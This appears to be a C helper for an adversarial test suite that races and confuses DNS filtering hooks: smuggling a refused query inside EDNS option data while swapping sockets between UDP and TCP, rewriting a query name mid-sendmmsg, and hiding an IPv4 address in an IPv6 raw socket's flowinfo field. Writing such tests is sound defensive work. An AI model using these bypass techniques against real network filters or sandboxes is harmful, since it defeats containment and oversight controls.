/* Races against what the DNS hooks judge, from an attacker's review (test/adversarial/dns-races.test.mjs).
 *
 *   dnsrace swap SERVER ALLOWED REFUSED COUNT
 *       A datagram query for ALLOWED whose EDNS option data holds a length-prefixed query for REFUSED, and
 *       whose ID is the length of the bytes before that: read as a TCP stream it is two messages, the second
 *       one asking for REFUSED. COUNT sends of it on a descriptor number another thread keeps moving (dup2)
 *       between a UDP socket and a TCP socket, both connected to SERVER:53.
 *   dnsrace mmsg SERVER ALLOWED REFUSED COUNT
 *       COUNT sendmmsg() calls of two datagrams: one to 127.0.0.2:9, then a query to SERVER:53 whose name
 *       another thread keeps switching between ALLOWED and REFUSED (the same length).
 *   dnsrace raw6 V4 V6
 *       A raw IPv6 socket (protocol 253) sends to V6 with the family AF_UNSPEC, V4 in the bytes an IPv4
 *       reading takes (sin6_flowinfo); the kernel reads V6. A second raw socket listens for it.
 * Prints "ok <sent> <refused>" ("ok received" / "ok lost" for raw6) or "error <errno name>". */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t put_name(unsigned char *p, const char *name) {
    size_t at = 0;
    while (*name) {
        const char *dot = strchr(name, '.');
        size_t l = dot ? (size_t)(dot - name) : strlen(name);
        p[at++] = (unsigned char)l;
        memcpy(p + at, name, l);
        at += l;
        name += l;
        if (*name) name++;
    }
    p[at++] = 0;
    return at;
}

/* A query for name (type A, class IN) at p: its length. */
static size_t query(unsigned char *p, unsigned id, const char *name, int additional) {
    unsigned char header[12] = {(unsigned char)(id >> 8), (unsigned char)id, 0x01, 0, 0, 1, 0, 0, 0, 0, 0,
                                (unsigned char)additional};
    memcpy(p, header, 12);
    size_t at = 12 + put_name(p + 12, name);
    const unsigned char type_class[4] = {0, 1, 0, 1};
    memcpy(p + at, type_class, 4);
    return at + 4;
}

static struct sockaddr_in server;
static atomic_int running;
static int number, first, second;

static void *mover(void *arg) {
    (void)arg;
    while (atomic_load_explicit(&running, memory_order_relaxed)) {
        dup2(second, number);
        dup2(first, number);
    }
    return NULL;
}

static int swap(const char *allowed, const char *refused_name, int count) {
    unsigned char inner[300], msg[600];
    size_t n_inner = query(inner, 0xbeef, refused_name, 0);
    size_t at = query(msg, 0, allowed, 1);
    const unsigned char opt[9] = {0, 0, 41, 0x10, 0, 0, 0, 0, 0}; /* root, OPT, 4096, ttl 0 */
    memcpy(msg + at, opt, sizeof opt);
    at += sizeof opt;
    size_t rdlen = 2 + n_inner;
    msg[at++] = (unsigned char)(rdlen >> 8);
    msg[at++] = (unsigned char)rdlen;
    size_t prefix = at; /* the stream's second length prefix starts here */
    msg[at++] = (unsigned char)(n_inner >> 8);
    msg[at++] = (unsigned char)n_inner;
    memcpy(msg + at, inner, n_inner);
    at += n_inner;
    msg[0] = (unsigned char)((prefix - 2) >> 8); /* the ID: the stream's first length */
    msg[1] = (unsigned char)(prefix - 2);
    first = socket(AF_INET, SOCK_DGRAM, 0);
    second = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(first, (struct sockaddr *)&server, sizeof server) != 0 ||
        connect(second, (struct sockaddr *)&server, sizeof server) != 0) {
        printf("error connect\n");
        return 0;
    }
    number = dup(first);
    atomic_store(&running, 1);
    pthread_t t;
    pthread_create(&t, NULL, mover, NULL);
    int sent = 0, refused = 0; /* refused: EACCES */
    for (int i = 0; i < count; i++) {
        if (send(number, msg, at, MSG_NOSIGNAL) >= 0)
            sent++;
        else if (errno == EACCES)
            refused++;
    }
    atomic_store(&running, 0);
    pthread_join(t, NULL);
    printf("ok %d %d\n", sent, refused);
    return 0;
}

static unsigned char shared_query[300];
static size_t name_at, name_len;
static const char *names[2];

static void *switcher(void *arg) {
    (void)arg;
    for (unsigned i = 0; atomic_load_explicit(&running, memory_order_relaxed); i++) {
        const char *name = names[i & 1];
        size_t at = 0;
        for (const char *p = name; *p;) { /* the labels' bytes, in place: same length, same shape */
            const char *dot = strchr(p, '.');
            size_t l = dot ? (size_t)(dot - p) : strlen(p);
            memcpy(shared_query + name_at + at + 1, p, l);
            at += l + 1;
            p += l;
            if (*p) p++;
        }
    }
    return NULL;
}

static int mmsg(const char *allowed, const char *refused, int count) {
    if (strlen(allowed) != strlen(refused)) return 2;
    name_len = query(shared_query, 0x1234, allowed, 0);
    name_at = 12;
    names[0] = allowed;
    names[1] = refused;
    struct sockaddr_in other = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, "127.0.0.2", &other.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    atomic_store(&running, 1);
    pthread_t t;
    pthread_create(&t, NULL, switcher, NULL);
    int sent = 0, refused_count = 0;
    for (int i = 0; i < count; i++) {
        struct iovec a = {"x", 1}, b = {shared_query, name_len};
        struct mmsghdr v[2] = {
            {.msg_hdr = {.msg_name = &other, .msg_namelen = sizeof other, .msg_iov = &a, .msg_iovlen = 1}},
            {.msg_hdr = {.msg_name = &server, .msg_namelen = sizeof server, .msg_iov = &b, .msg_iovlen = 1}},
        };
        int r = sendmmsg(fd, v, 2, 0);
        if (r == 2)
            sent++;
        else
            refused_count++;
    }
    atomic_store(&running, 0);
    pthread_join(t, NULL);
    printf("ok %d %d\n", sent, refused_count);
    return 0;
}

static int raw6(const char *v4, const char *v6) {
    int listener = socket(AF_INET6, SOCK_RAW, 253), s = socket(AF_INET6, SOCK_RAW, 253);
    if (listener < 0 || s < 0) {
        printf("error socket %s\n", strerror(errno));
        return 0;
    }
    struct sockaddr_in6 to = {.sin6_family = AF_INET6};
    inet_pton(AF_INET6, v6, &to.sin6_addr);
    if (bind(listener, (struct sockaddr *)&to, sizeof to) != 0) {
        printf("error bind %s\n", strerror(errno));
        return 0;
    }
    to.sin6_family = AF_UNSPEC;
    struct in_addr read_as_v4;
    inet_pton(AF_INET, v4, &read_as_v4);
    memcpy(&to.sin6_flowinfo, &read_as_v4, 4);
    if (sendto(s, "raw6-unspec", 11, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        printf("error %s\n", errno == EACCES ? "EACCES" : strerror(errno));
        return 0;
    }
    struct pollfd p = {listener, POLLIN, 0};
    char buf[64] = {0};
    int got =
        poll(&p, 1, 1000) == 1 && recv(listener, buf, sizeof buf - 1, 0) > 0 && strstr(buf, "raw6-unspec");
    printf("ok %s\n", got ? "received" : "lost");
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 4 && strcmp(argv[1], "raw6") == 0) return raw6(argv[2], argv[3]);
    if (argc != 6) return 2;
    server = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
    if (inet_pton(AF_INET, argv[2], &server.sin_addr) != 1) return 2;
    if (strcmp(argv[1], "swap") == 0) return swap(argv[3], argv[4], atoi(argv[5]));
    if (strcmp(argv[1], "mmsg") == 0) return mmsg(argv[3], argv[4], atoi(argv[5]));
    return 2;
}
